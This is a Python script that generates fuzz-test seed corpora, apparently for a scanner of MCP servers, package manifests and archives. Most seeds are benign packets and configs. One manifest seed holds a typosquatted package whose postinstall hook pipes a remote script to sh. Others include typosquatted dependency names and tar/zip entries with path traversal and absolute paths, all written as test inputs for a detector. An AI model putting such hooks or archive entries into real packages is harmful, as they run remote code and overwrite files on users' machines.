#!/usr/bin/env python3
"""Regenerate the committed seed corpora of tests/fuzz/corpus/<harness>/ from samples/ and
from small hand-made inputs (packets, MCP sessions, archives). Run from anywhere:
    python3 tests/fuzz/make_seeds.py
Seeds are capped at 16 KiB each (the static harnesses run with -max_len=16384)."""
import io
import json
import pathlib
import shutil
import struct
import tarfile
import zipfile

ROOT = pathlib.Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "samples"
OUT = ROOT / "tests" / "fuzz" / "corpus"
CAP = 16 << 10
SEP = b"\0"


def put(harness, name, data):
    if isinstance(data, str):
        data = data.encode()
    if len(data) > CAP:
        return
    d = OUT / harness
    d.mkdir(parents=True, exist_ok=True)
    (d / name).write_bytes(data)


def sample_files(*patterns):
    for pat in patterns:
        for f in sorted(SAMPLES.glob(pat)):
            if f.is_file() and "node_modules" not in f.parts and f.stat().st_size <= CAP:
                yield f


def static_seeds():
    for harness, pats in (("fuzz_static_js", ["*/*.js", "*/*.cjs", "*/*.mjs", "lib/*.mjs"]),
                          ("fuzz_static_ts", ["*/*.ts", "*/src/*.ts"]),
                          ("fuzz_static_py", ["*/*.py", "*/*/*.py"])):
        for f in sample_files(*pats):
            # no extension: seeds are data, not sources of the project
            put(harness, f"{f.parent.name}-{f.name.replace('.', '-')}", f.read_bytes())
    s = lambda p: (SAMPLES / p).read_bytes()
    # index.js, m.js, lib/util.ts, main.py, config.py
    put("fuzz_static_folder", "esm-imports", SEP.join([
        s("08-esm-imports-js/index.js").replace(b"./config.js", b"./m.js"), s("08-esm-imports-js/config.js"),
        s("20-multi-module-ts/src/client.ts"), s("22-package-config-py/inventory_mcp/server.py").replace(
            b"from .config", b"from config"), s("22-package-config-py/inventory_mcp/config.py")]))
    put("fuzz_static_folder", "cjs-require", SEP.join([
        s("14-config-module-cjs/index.js").replace(b"./config", b"./m"), s("14-config-module-cjs/config.js")]))
    put("fuzz_static_folder", "imported-template", SEP.join([
        b"import { u } from './m.js';\nimport { base } from './lib/util';\n"
        b"const t = `https://h.example.com/${u}/${base}`;\nfetch(t);\n",
        b"export const u = 'v1';\nexport default function f(x) { return fetch(x); }\n",
        b"export const base: string = 'api.example.net';\n",
        b"from config import API\nimport requests\nrequests.get(API + '/x')\n",
        b"API = 'https://api.example.org'\n"]))


def dns_query(name, qtype=1, qid=0x1234):
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack(">HH", qtype, 1)


def client_hello(sni):
    name = sni.encode()
    ext_sni = struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    alpn = b"\x00\x10\x00\x05\x00\x03\x02h2"
    exts = ext_sni + alpn
    body = b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" + struct.pack(">H", len(exts)) + exts
    hs = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hs)) + hs


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f">{len(b)//2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(proto, payload, src=b"\xc0\x00\x02\x01", dst=b"\xcb\x00\x71\x05"):
    hdr = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0x4000, 64, proto, 0, src, dst)
    return hdr[:10] + struct.pack(">H", csum(hdr)) + hdr[12:] + payload


def tcp(payload, sport=40000, dport=443, seq=1000, flags=0x18):
    return struct.pack(">HHIIBBHHH", sport, dport, seq, 0, 5 << 4, flags, 65535, 0, 0) + payload


def udp(payload, sport=40000, dport=53):
    return struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload


HTTP_REQ = b"POST /v1/upload?k=1 HTTP/1.1\r\nHost: api.example.com\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"


def decode_seeds():
    hello = client_hello("api.example.com")
    put("fuzz_decode", "raw-tcp-tls", bytes([3]) + ipv4(6, tcp(hello)))
    put("fuzz_decode", "raw-tcp-http", bytes([3]) + ipv4(6, tcp(HTTP_REQ, dport=80)))
    put("fuzz_decode", "raw-udp-dns", bytes([3]) + ipv4(17, udp(dns_query("t.example.net"))))
    eth = bytes(6) + b"\x02\x00\x00\x00\x00\x01" + b"\x08\x00"
    put("fuzz_decode", "ether-udp-dns", bytes([0]) + eth + ipv4(17, udp(dns_query("a.example.org", 28))))
    put("fuzz_decode", "dns", bytes([6]) + dns_query("x1.example.com"))
    put("fuzz_decode", "tls", bytes([7]) + hello)
    put("fuzz_decode", "http", bytes([8]) + HTTP_REQ)
    syn = ipv4(6, tcp(b"", seq=999, flags=0x02))
    half1, half2 = HTTP_REQ[:20], HTTP_REQ[20:]
    pkts = [syn, ipv4(6, tcp(half2, seq=1000 + len(half1), dport=443)), ipv4(6, tcp(half1, seq=1000, dport=443)),
            ipv4(17, udp(dns_query("q.example.net")))]
    put("fuzz_decode", "flows", bytes([9]) + b"".join(struct.pack(">H", len(p)) + p for p in pkts))


def fakedns_seeds():
    put("fuzz_fakedns", "udp-a", b"\0" + dns_query("api.example.com"))
    put("fuzz_fakedns", "udp-aaaa", b"\0" + dns_query("api.example.com", 28))
    put("fuzz_fakedns", "udp-https", b"\0" + dns_query("svc.example.net", 65))
    comp = dns_query("a.example.com")[:-4] + b"\xc0\x0c" + struct.pack(">HH", 1, 1)
    put("fuzz_fakedns", "udp-pointer", b"\0" + comp)
    msgs = [dns_query("one.example.com"), dns_query("two.example.org", 28, 7)]
    put("fuzz_fakedns", "tcp-two", b"\1" + b"".join(struct.pack(">H", len(m)) + m for m in msgs))


def jl(*msgs):
    return "".join(json.dumps(m) + "\n" for m in msgs).encode()


INIT = {"jsonrpc": "2.0", "id": 1, "result": {"protocolVersion": "2025-06-18", "capabilities": {"tools": {}},
                                               "serverInfo": {"name": "weather", "version": "1.0"}}}
TOOLS = {"jsonrpc": "2.0", "id": 2, "result": {"tools": [{"name": "forecast", "description": "d", "inputSchema": {
    "type": "object", "properties": {"city": {"type": "string"}, "days": {"type": "integer", "minimum": 1},
                                     "url": {"type": "string", "format": "uri"},
                                     "opts": {"$ref": "#/$defs/o"}},
    "required": ["city"], "$defs": {"o": {"type": "array", "items": {"enum": ["a", "b"]}}}}}],
    "nextCursor": "p2"}}
TOOLS2 = {"jsonrpc": "2.0", "id": 3, "result": {"tools": []}}
RES = {"jsonrpc": "2.0", "id": 4, "result": {"resources": [{"uri": "file:///tmp/x", "name": "x"}]}}
PROMPTS = {"jsonrpc": "2.0", "id": 5, "result": {"prompts": [{"name": "p", "arguments": [{"name": "topic"}]}]}}
ANSWERS = [{"jsonrpc": "2.0", "id": i, "result": {"content": [{"type": "text", "text": "ok"}]}} for i in range(6, 9)]
SERVER_REQ = {"jsonrpc": "2.0", "id": "s1", "method": "roots/list"}
NOTE = {"jsonrpc": "2.0", "method": "notifications/message", "params": {"data": "log"}}


def driver_seeds():
    parts = [jl(NOTE, INIT), jl(SERVER_REQ, TOOLS), jl(TOOLS2), jl(RES), jl(PROMPTS)] + [jl(a) for a in ANSWERS]
    put("fuzz_driver_stdio", "session", SEP.join(parts))
    put("fuzz_driver_stdio", "batch-garbage", SEP.join([b"not json\n" + json.dumps([NOTE, INIT]).encode() + b"\n",
                                                         b'{"jsonrpc":"2.0","id":2,"error":{"code":-1}}\r\n']))

    def resp(body, ctype="application/json", extra=""):
        return (f"HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\n{extra}Content-Length: {len(body)}\r\n\r\n").encode() + body

    def chunked(body):
        return (b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
                + b"%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n")

    sse = lambda *m: b"".join(b"event: message\ndata: " + json.dumps(x).encode() + b"\n\n" for x in m)
    parts = [resp(json.dumps(INIT).encode(), extra="Mcp-Session-Id: abc\r\n"), resp(sse(SERVER_REQ, TOOLS), "text/event-stream"),
             chunked(sse(TOOLS2)), resp(json.dumps(RES).encode()), resp(json.dumps(PROMPTS).encode())]
    parts += [resp(json.dumps(a).encode()) for a in ANSWERS]
    put("fuzz_driver_http", "session", SEP.join(parts))
    put("fuzz_driver_http", "errors", SEP.join([b"HTTP/1.1 404 Not Found\r\nContent-Length: 3\r\n\r\nno\n",
                                                b"HTTP/1.0 500 x\r\n\r\n"]))


def small_seeds():
    for i, s in enumerate(["https://api.example.com:8443/v1?q=1", "//cdn.example.net/x", "http://[2001:db8::1]:80/",
                           "wss://user:pw@WS.Example.ORG./s", "*.example.com:443", "203.0.113.0/24", "[2001:db8::]/32",
                           "a.b.github.io", "localhost", "127.0.0.1", "redis://cache.example.test"]):
        put("fuzz_url", f"u{i}", s)
    for d in ("02-weather-js", "03-forecast-site-docs-py", "22-package-config-py"):
        parts = [(SAMPLES / d / f).read_bytes() if (SAMPLES / d / f).exists() else b""
                 for f in ("README.md", "docs/guide.rst", "server.json", "package.json", "pyproject.toml")]
        put("fuzz_docs", d, SEP.join(parts))
    put("fuzz_docs", "rst-server", SEP.join([b"# x\nSee <https://api.example.com/v1> and `cdn.example.net`.\n",
                                             b"Title\n=====\n\n.. _link: https://docs.example.org/\n",
                                             b'{"name":"io.example/x","remotes":[{"url":"https://mcp.example.com/mcp"}]}']))
    put("fuzz_policy", "full", json.dumps({"allow": ["api.example.com", "*.example.net:443", "198.51.100.0/24"],
                                           "deny": ["[2001:db8::]/32"], "fail_on": "medium", "review_on": "low",
                                           "strict_docs": True, "use_docs": False,
                                           "suppress": [{"rule": "dynamic-code-execution", "file": "index.js",
                                                         "fingerprint": "0123456789abcdef", "reason": "r",
                                                         "expires": "2027-01-01"}]}))
    put("fuzz_policy", "empty", "{}")
    names = ["claude_desktop_config.json", ".mcp.json", ".cursor/mcp.json", ".vscode/mcp.json"]
    for f in sorted((SAMPLES / "clients").rglob("*.json")):
        rel = str(f.relative_to(SAMPLES / "clients"))
        pick = next((i for i, n in enumerate(names) if rel.endswith(n)), 7)
        put("fuzz_clientconfig", f.parent.name + "-" + f.name.replace(".", "-"), bytes([pick]) + f.read_bytes())
    put("fuzz_clientconfig", "jsonc", bytes([3]) + b'// c\n{"servers": {"a": {"type": "stdio", "command": "npx", '
        b'"args": ["-y", "@scope/pkg@1.0", "${workspaceFolder}"], "env": {"API_KEY": "${input:k}"},}, /* x */ '
        b'"r": {"url": "https://mcp.example.com/mcp?token=abc", "headers": {"Authorization": "Bearer x"}}},'
        b' "inputs": [{"id": "k", "type": "promptString"}]}')
    for d in sorted(SAMPLES.glob("*/package.json")):
        put("fuzz_manifest", d.parent.name, b"\0" + d.read_bytes())
    registry = json.dumps({"time": {"created": "2025-12-20T00:00:00Z", "1.0.0": "2025-12-20T00:00:00Z"},
                           "versions": {"1.0.0": {}}, "dist-tags": {"latest": "1.0.0"}}).encode()
    put("fuzz_manifest", "npm-registry", b"\0" + SEP.join([
        b'{"name":"expresss","version":"1.0.0","bin":{"x":"index.js"},"scripts":{"postinstall":'
        b'"curl -s https://t.example.net/i | sh && node -e \\"fetch(\'https://a.example.org\')\\""},'
        b'"dependencies":{"lodahs":"^1","g":"github:u/r"}}', b"{}", registry]))
    put("fuzz_manifest", "pyproject", b"\1" + SEP.join([(SAMPLES / "22-package-config-py/pyproject.toml").read_bytes(),
        b"[metadata]\nname = x\n[options]\ninstall_requires =\n    reqeusts>=2\n[options.entry_points]\n"
        b"console_scripts =\n    x = pkg.main:run\n", b"[console_scripts]\nx = pkg.main:run\n",
        json.dumps({"releases": {"1.0": [{"upload_time_iso_8601": "2025-12-30T00:00:00Z"}]}}).encode()]))
    put("fuzz_manifest", "pkg-info", b"\2" + SEP.join([b"Metadata-Version: 2.1\nName: x\nVersion: 1.0\n"
        b"Requires-Dist: numpyy\nRequires-Dist: foo; extra == 'dev'\n", b""]))
    put("fuzz_manifest", "wheel", b"\3" + SEP.join([b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n",
        b"[console_scripts]\npkg = pkg.__main__:main\n", b"print('x')\n"]))


def archive_seeds():
    def tar(mode, entries):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode=mode) as t:
            for name, kind, data in entries:
                ti = tarfile.TarInfo(name)
                if kind == "file":
                    ti.size = len(data)
                    t.addfile(ti, io.BytesIO(data))
                else:
                    ti.type = tarfile.SYMTYPE if kind == "sym" else tarfile.LNKTYPE if kind == "hard" else tarfile.DIRTYPE
                    ti.linkname = data.decode() if data else ""
                    t.addfile(ti)
        return buf.getvalue()
    pkg = [("package", "dir", b""), ("package/package.json", "file", b'{"name":"x","version":"1.0.0"}'),
           ("package/index.js", "file", b"fetch('https://api.example.com')\n")]
    put("fuzz_archive", "npm-tgz", tar("w:gz", pkg))
    put("fuzz_archive", "links-tar", tar("w", pkg + [("package/l", "sym", b"index.js"), ("package/h", "hard", b"package/index.js"),
                                                     ("package/up", "sym", b"../../etc"), ("../evil", "file", b"x")]))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("pkg/__init__.py", "import requests\n")
        z.writestr("pkg-1.0.dist-info/METADATA", "Name: pkg\nVersion: 1.0\n")
        z.writestr("/abs", "x")
    put("fuzz_archive", "wheel-zip", buf.getvalue())


if __name__ == "__main__":
    shutil.rmtree(OUT, ignore_errors=True)
    static_seeds()
    decode_seeds()
    fakedns_seeds()
    driver_seeds()
    small_seeds()
    archive_seeds()
    total = sum(f.stat().st_size for f in OUT.rglob("*") if f.is_file())
    print(f"{sum(1 for f in OUT.rglob('*') if f.is_file())} seeds, {total} bytes under {OUT}")
